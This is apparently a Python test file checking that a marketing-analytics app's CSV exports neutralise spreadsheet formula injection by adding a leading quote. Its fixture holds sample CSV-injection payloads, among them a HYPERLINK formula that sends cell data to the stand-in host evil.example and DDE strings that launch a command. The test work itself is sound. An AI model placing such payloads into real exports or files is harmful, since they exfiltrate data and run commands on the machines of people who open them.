"""No export writes a cell a spreadsheet would run: text that starts like a formula gets a leading quote.

Every CSV route is fed the same hostile data (a campaign named as a HYPERLINK
formula, an account named as a DDE command, a visitor_id `=1+2`…) and must
write it neutralised, while negative numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta
from decimal import Decimal, InvalidOperation

import pytest

from campaigns.csv_cells import FORMULA_STARTS, SafeWriter, neutralise
from campaigns.models import DealStatus
from kpis.charts import CHARTS
from kpis.services import recompute_rollups
from kpis.targets import target_set
from tests.data_factories import (
    T0,
    AccountFactory,
    CampaignFactory,
    DealFactory,
    LeadFactory,
    SpendEntryFactory,
    TouchpointFactory,
)

CAMPAIGN_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
CAMPAIGN_ID = "@evil"
ACCOUNT_NAME = "+cmd|' /C calc'!A0"
VISITOR_ID = "=1+2"
DEAL_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
LEAD_EMAIL = "-2+3@example.com"
AGENCY_NAME = "=cmd|' /C calc'!A0"
RANGE = "range=custom&from=2026-01-01&to=2026-01-31"


@pytest.fixture
def hostile(workspace):
    """One of everything, named to attack a spreadsheet; spend 100 for won revenue 20: an ROI of -0.8."""
    workspace.agency.name = AGENCY_NAME
    workspace.agency.save()
    campaign = CampaignFactory(workspace=workspace, external_id=CAMPAIGN_ID, name=CAMPAIGN_NAME)
    account = AccountFactory(workspace=workspace, name=ACCOUNT_NAME, is_target=True)
    lead = LeadFactory(workspace=workspace, email=LEAD_EMAIL, account=account, source_campaign=campaign)
    SpendEntryFactory(workspace=workspace, campaign=campaign, cost=Decimal("100.00"))
    DealFactory(
        workspace=workspace, account=account, lead=lead, source_campaign=campaign, name=DEAL_NAME,
        amount=Decimal("20.00"), status=DealStatus.WON, closed_at=T0 + timedelta(days=2),
    )  # fmt: skip
    for kind in ("page_view", "email_click"):
        TouchpointFactory(
            workspace=workspace, kind=kind, campaign=campaign, lead=lead, account=account, visitor_id=VISITOR_ID
        )
    target_set(workspace=workspace, kpi="roi", period_kind="month", starts_on=date(2026, 1, 1), value=Decimal("-0.5"))
    recompute_rollups(workspace_id=workspace.pk)
    return workspace


def cells(response) -> list[str]:
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Type"].startswith("text/csv")
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return [cell for row in csv.reader(io.StringIO(content.decode().lstrip("\ufeff"))) for cell in row]


def is_number(text: str) -> bool:
    try:
        Decimal(text)
    except InvalidOperation:
        return False
    return True


# (route, a neutralised hostile text it must contain, a negative number it must keep)
EXPORTS = [
    ("/w/acme/data/campaigns/?export=csv", f"'{CAMPAIGN_NAME}", None),
    ("/w/acme/data/accounts/?export=csv", f"'{ACCOUNT_NAME}", None),
    ("/w/acme/data/leads/?export=csv", f"'{LEAD_EMAIL}", None),
    ("/w/acme/data/deals/?export=csv", f"'{DEAL_NAME}", None),
    (f"/w/acme/?{RANGE}&export=kpis", None, "-0.8"),
    (f"/w/acme/?{RANGE}&export=target-progress", None, "-0.50"),
    (f"/w/acme/report/?{RANGE}&export=kpis", None, "-0.8"),
    ("/w/acme/campaigns/?export=campaigns", f"'{CAMPAIGN_NAME}", None),
    (f"/w/acme/campaigns/{CAMPAIGN_ID}/?export=spend", f"'{CAMPAIGN_ID}", None),
    (f"/w/acme/campaigns/{CAMPAIGN_ID}/?export=leads", f"'{LEAD_EMAIL}", None),
    (f"/w/acme/campaigns/{CAMPAIGN_ID}/?export=deals", f"'{DEAL_NAME}", None),
    (f"/w/acme/abm/?{RANGE}&export=accounts", f"'{ACCOUNT_NAME}", None),
    (f"/w/acme/attribution/?{RANGE}&export=campaigns", f"'{CAMPAIGN_NAME}", None),
    (f"/w/acme/attribution/?{RANGE}&export=channels", None, None),
    (f"/w/acme/attribution/?{RANGE}&export=reconciliation", None, None),
    ("/w/acme/targets/?export=targets", None, "-0.5000"),
    (f"/w/acme/records/leads/?{RANGE}&export=leads", f"'{LEAD_EMAIL}", None),
    (f"/w/acme/records/deals/?{RANGE}&status=won&export=deals", f"'{DEAL_NAME}", None),
    (f"/w/acme/records/spend/?{RANGE}&export=spend", f"'{CAMPAIGN_ID}", None),
    (f"/w/acme/records/touchpoints/?{RANGE}&touchpoint=page_view&export=touchpoints", f"'{VISITOR_ID}", None),
    (f"/w/acme/records/customers/?{RANGE}&export=customers", f"'{ACCOUNT_NAME}", None),
    (f"/?{RANGE}&export=workspaces", f"'{AGENCY_NAME}", "-0.8"),
    (f"/w/acme/charts/attribution/?{RANGE}&format=csv", f"'{CAMPAIGN_NAME}", None),
    *((f"/w/acme/charts/{name}/?{RANGE}&format=csv", None, None) for name in CHARTS),
]


@pytest.mark.parametrize(("url", "text", "negative"), EXPORTS)
def test_every_export_neutralises_formulas_and_keeps_negative_numbers(hostile, member_client, url, text, negative):
    written = cells(member_client.get(url))
    for cell in written:  # nothing a spreadsheet would evaluate, but numbers
        assert not cell.startswith(FORMULA_STARTS) or is_number(cell), (url, cell)
    if text is not None:
        assert text in written, url
    if negative is not None:
        assert negative in written, url


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_starting_like_a_formula_gets_a_leading_quote(start):
    assert neutralise(f"{start}1+2") == f"'{start}1+2"
    assert neutralise(f"a{start}1") == f"a{start}1"


@pytest.mark.parametrize("number", [Decimal("-12.50"), -12.5, -12, 0])
def test_numbers_are_written_as_numbers(number):
    out = io.StringIO()
    SafeWriter(out).writerow([number, "-12.5", None, True])
    assert out.getvalue() == f"{number},'-12.5,,True\r\n"
